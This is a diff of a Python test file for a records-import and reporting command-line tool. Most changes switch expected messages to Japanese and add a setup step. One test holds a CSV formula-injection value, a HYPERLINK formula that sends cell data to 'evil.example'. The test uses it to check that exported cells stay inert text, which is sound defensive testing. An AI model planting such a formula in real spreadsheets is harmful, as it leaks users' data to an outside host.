@@ -61,7 +61,7 @@ def test_an_imported_baseline_and_a_year_of_records_give_the_published_fiscal_ye
         result = fieldbot(tmp_path, "import", kind, str(path))
         assert result.returncode == 0, result.stdout + result.stderr
     again = fieldbot(tmp_path, "import", "records", str(records))
-    assert again.returncode == 1 and "already imported" in again.stdout
+    assert again.returncode == 1 and "このファイルは取り込み済みです" in again.stdout
 
     text = fieldbot(tmp_path, "report", "--fy", "2020").stdout
     for line in (
@@ -114,7 +114,7 @@ def test_report_options_are_checked_with_one_line(tmp_path: Path) -> None:
     for args, message in (
         (("--week", "2021-W53"), "no ISO week 53"),
         (("--from", "2026-11-01"), "--from needs --to"),
-        (("--fy", "2020", "--zone", "nowhere"), "unknown zone 'nowhere'"),
+        (("--fy", "2020", "--zone", "nowhere"), "「nowhere」という圏域はありません"),
     ):
         result = fieldbot(tmp_path, "report", *args)
         assert result.returncode == 2 and message in result.stderr and len(result.stderr.splitlines()) == 1
@@ -122,6 +122,8 @@ def test_report_options_are_checked_with_one_line(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx", "png"])
 def test_report_files_are_written(tmp_path: Path, fmt: str) -> None:
+    _, records = write_files(tmp_path)
+    assert fieldbot(tmp_path, "import", "records", str(records)).returncode == 0
     out = tmp_path / f"fy2020.{fmt}"
     result = fieldbot(tmp_path, "report", "--fy", "2020", "--format", fmt, "--out", str(out))
     assert result.returncode == 0, result.stderr
@@ -142,16 +144,16 @@ def test_an_export_imported_again_adds_nothing_and_its_cells_are_text(tmp_path: 
         assert result.returncode == 0, result.stdout + result.stderr
     exported = tmp_path / "fy2020.csv"
     result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "csv", "--out", str(exported))
-    assert result.returncode == 0 and "wrote 52 records of FY2020" in result.stdout, result.stderr
+    assert result.returncode == 0 and "令和2年度の記録52件を" in result.stdout, result.stderr
     with exported.open(encoding="utf-8-sig", newline="") as source:
         rows = list(csv.DictReader(source))
     assert {r["staff"] for r in rows} == {"山田 花子", '\'=HYPERLINK("http://evil.example/?"&D2,"x")'}
 
     again = fieldbot(tmp_path, "import", "records", str(exported))
     assert again.returncode == 0, again.stdout + again.stderr
-    assert "52 records already in the database were skipped" in again.stdout
+    assert "52件はすでにデータベースにある記録（同じ record_id）なので、飛ばしました" in again.stdout
     twice = fieldbot(tmp_path, "import", "records", str(exported))
-    assert twice.returncode == 1 and "already imported" in twice.stdout
+    assert twice.returncode == 1 and "このファイルは取り込み済みです" in twice.stdout
     lines = fieldbot(tmp_path, "report", "--fy", "2020").stdout.splitlines()
     assert "・活動記録 28件 (+28件)" in lines and "・子ども政策課 12件 (新)" in lines  # counted once
 
